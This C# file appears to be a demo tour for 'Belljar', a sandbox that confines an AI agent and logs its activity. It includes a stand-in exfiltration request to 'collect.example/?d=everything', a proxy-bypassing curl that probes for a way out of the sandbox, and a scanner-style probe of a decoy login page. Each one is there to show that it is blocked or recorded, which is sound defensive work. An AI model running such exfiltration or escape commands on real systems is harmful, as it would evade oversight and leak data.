using Belljar.Contracts.Events;
using Belljar.Control;
using Belljar.Hosting;
using Belljar.Terminals;
using Belljar.Web;
using Belljar.Web.Access;

namespace Belljar.Demo;

/// <summary>The tour, a step at a time. A step that does not do what it should is told, counted, and does not end the tour.</summary>
internal sealed class DemoStory(DemoHome home, TextWriter output)
{
    private const string Sender = """
        import smtplib, sys
        from email.message import EmailMessage
        m = EmailMessage()
        m["From"], m["To"], m["Subject"] = "A stranger <stranger@example.net>", "agent@agent.localhost", "Could you look at this?"
        m.set_content("The build is red since this morning.")
        host, _, port = sys.argv[1].rpartition(":")
        with smtplib.SMTP(host, int(port)) as s:
            s.send_message(m)
        """;

    private int _failed;
    private int _step;
    private SystemStatus? _status;

    /// <returns>How many steps failed.</returns>
    public async Task<int> TellAsync(CancellationToken ct)
    {
        await using var shop = new DemoWeb();
        if (!await StepAsync("Belljar starts in an empty home", () => StartAsync(ct)))
        {
            return _failed;
        }

        await StepAsync("A stranger writes to the agent", () => WriteMailAsync(ct));
        await StepAsync("Somebody tries a door of the intranet, which is a decoy", () => VisitDecoyAsync(ct));
        Allow(shop.Port);
        await StepAsync("An agent in a bottle asks for what its bottle allows", () => AskAllowedAsync(shop.Port, ct));
        await StepAsync("… and for what it does not", () => AskDeniedAsync(ct));
        await StepAsync("… and looks for a way around the gate", () => LookForAWayOutAsync(ct));
        await StepAsync("All of it stands in one record", () => TimelineAsync(ct));
        await StepAsync("The console shows it too, to whoever has the token", () => ConsoleAsync(ct));
        await StepAsync("Nobody has tampered with the record", () => VerifyAsync(ct));
        await StepAsync("Belljar stops in good order", StopAsync);
        output.WriteLine(_failed == 0 ? Terminal.Green("Every step did what it should.") : Terminal.Red($"{_failed} of {_step} steps failed."));
        return _failed;
    }

    private async Task<IReadOnlyList<string>> StartAsync(CancellationToken ct)
    {
        _status = await home.UpAsync(ct);
        return [.. _status.Workers.SelectMany(worker => worker.Listeners.Select(listener => $"{worker.Name,-9} {listener.Protocol,-11} {listener.Address}"))];
    }

    private async Task<IReadOnlyList<string>> WriteMailAsync(CancellationToken ct)
    {
        var sent = await home.ProgramAsync(ct, "python3", "-c", Sender, AddressOf("smtp"));
        Expect(sent.Succeeded, $"the client failed: {sent.ErrorText}");
        await home.EventAsync("mail.received", e => e.Mailbox == "agent", ct);
        var list = await home.BelljarAsync(ct, "mail", "list", "agent");
        Expect(list.OutputText.Contains("Could you look at this?"), "the message is not in the list");
        var file = Directory.EnumerateFiles(Path.Combine(home.Paths.MailData, "inbox", "agent"), "*.md").Single();
        return [.. Lines(list.OutputText), "", $"$ head -n 8 {Path.GetFileName(file)}", .. File.ReadLines(file).Take(8)];
    }

    private async Task<IReadOnlyList<string>> VisitDecoyAsync(CancellationToken ct)
    {
        var visit = await home.ProgramAsync(ct, "curl", "-sS", "-i", "-A", "Mozilla/5.0 zgrab/0.x", $"http://{AddressOf("decoy:http")}/wp-login.php");
        Expect(visit.Succeeded, $"curl failed: {visit.ErrorText}");
        var seen = await home.EventAsync("decoy.request", e => e.Decoy == "intranet", ct);
        Expect(EventKinds.DecoyRequest.Read(seen).Target == "/wp-login.php", "the event names another path");
        return [.. Lines(visit.OutputText).Take(4), "…", Shown(seen)];
    }

    private async Task<IReadOnlyList<string>> AskAllowedAsync(int port, CancellationToken ct)
    {
        var url = $"http://shop.localhost:{port}/today";
        var asked = await home.BelljarAsync(ct, "bottle", "run", "dev", "--", "curl", "-sS", "--noproxy", "", url);
        Expect(asked.OutputText == DemoWeb.Answer, $"got '{asked.OutputText}' {asked.ErrorText}");
        var decision = await home.EventAsync("gate.egress.decision", e => EventKinds.EgressDecision.Read(e).Path == "/today", ct);
        return [$"$ belljar bottle run dev -- curl {url}", asked.OutputText, Shown(decision)];
    }

    private async Task<IReadOnlyList<string>> AskDeniedAsync(CancellationToken ct)
    {
        const string Url = "http://collect.example/?d=everything";
        var asked = await home.BelljarAsync(ct, "bottle", "run", "dev", "--", "curl", "-sS", "-w", "\nHTTP %{http_code}", Url);
        Expect(asked.OutputText.EndsWith("HTTP 403", StringComparison.Ordinal), $"got '{asked.OutputText}' {asked.ErrorText}");
        await home.EventAsync("gate.egress.decision", e => EventKinds.EgressDecision.Read(e).Host == "collect.example", ct);
        return [$"$ belljar bottle run dev -- curl {Url}", .. Lines(asked.OutputText)];
    }

    private async Task<IReadOnlyList<string>> LookForAWayOutAsync(CancellationToken ct)
    {
        const string Script = "cat /proc/net/dev | tail -n +3 | cut -d: -f1; curl -sS -m 3 --noproxy '*' http://1.1.1.1/";
        var looked = await home.BelljarAsync(ct, "bottle", "run", "dev", "--", "sh", "-c", Script);
        Expect(!looked.Succeeded, "1.1.1.1 was reached");
        Expect(Lines(looked.OutputText).All(line => line.Trim() == "lo"), $"there is more than loopback: {looked.OutputText}");
        return ["$ belljar bottle run dev -- sh -c '…; curl --noproxy \"*\" http://1.1.1.1/'", .. Lines(looked.OutputText), .. Lines(looked.ErrorText)];
    }

    private async Task<IReadOnlyList<string>> TimelineAsync(CancellationToken ct)
    {
        await home.EventAsync("bottle.ended", _ => true, ct);
        var kinds = home.Events(ct).Select(stored => stored.Event).ToList();
        foreach (var needed in new[] { "mail.received", "decoy.request", "bottle.started", "gate.egress.decision", "sandbox.created" })
        {
            Expect(kinds.Exists(e => e.Kind == needed), $"{needed} is missing");
        }

        return [.. kinds.Where(e => e.Kind != EventKinds.WorkerStateChanged.Name).Select(Shown)];
    }

    private async Task<IReadOnlyList<string>> ConsoleAsync(CancellationToken ct)
    {
        var address = AddressOf(WebWorker.Protocol);
        var stranger = await home.ProgramAsync(ct, "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", $"http://{address}/");
        Expect(stranger.OutputText == "401", $"a stranger got {stranger.OutputText}");

        // The URL holds the token, so curl reads it from its input and no argument list shows it.
        var url = ConsoleToken.LoadOrCreate(home.Paths).Url(address);
        var page = await home.FeedAsync($"url = \"{url}\"\n", ["curl", "-sS", "-L", "-c", "/dev/null", "-K", "-"], ct);
        Expect(page.OutputText.Contains("collect.example"), $"the page does not tell of the denied request: {page.ErrorText}");
        return [$"http://{address}/ without the token: {stranger.OutputText}", $"with it: a page of {page.Output.Length / 1024} kB"];
    }

    private async Task<IReadOnlyList<string>> VerifyAsync(CancellationToken ct)
    {
        var verified = await home.BelljarAsync(ct, "audit", "verify");
        Expect(verified.Succeeded, verified.OutputText + verified.ErrorText);
        return [.. Lines(verified.OutputText)];
    }

    private async Task<IReadOnlyList<string>> StopAsync()
    {
        var code = await home.StopAsync();
        Expect(code == 0, $"it ended with code {code}");
        return [];
    }

    private async Task<bool> StepAsync(string title, Func<Task<IReadOnlyList<string>>> step)
    {
        _step++;
        IReadOnlyList<string> told;
        string? problem = null;
        try
        {
            told = await step();
        }
        catch (Exception failure) when (failure is not OperationCanceledException)
        {
            told = [];
            problem = failure.Message;
            _failed++;
        }

        output.WriteLine($"{(problem is null ? Terminal.Green("✓") : Terminal.Red("✗"))} {Terminal.Bold($"{_step}. {title}")}");
        foreach (var line in told)
        {
            output.WriteLine($"    {Terminal.Safe(line)}");
        }

        if (problem is not null)
        {
            output.WriteLine($"    {Terminal.Red(Terminal.Safe(problem))}");
        }

        output.WriteLine();
        return problem is null;
    }

    private void Allow(int port) => File.WriteAllText(Path.Combine(home.Paths.Bottles, "dev.md"), $"""
        ---
        egress:
          routes:
            - host: shop.localhost
              ports: [{port}]
        ---
        The demo's bottle: one shop, and nothing else.

        """);

    private string AddressOf(string protocol) => _status!.Workers.SelectMany(worker => worker.Listeners).First(listener => listener.Protocol == protocol).Address;

    private static void Expect(bool holds, string problem)
    {
        if (!holds)
        {
            throw new OperatorException(problem);
        }
    }

    private static string[] Lines(string text) => text.Split("\r\n".ToCharArray(), StringSplitOptions.RemoveEmptyEntries);

    private static string Shown(BelljarEvent e)
    {
        var about = e.Session ?? e.Decoy ?? e.Mailbox ?? "";
        var data = e.Data.GetRawText();
        return $"{e.Time:HH:mm:ss} {e.Kind,-22} {about,-12} {(data.Length > 160 ? data[..160] + "…" : data)}";
    }
}
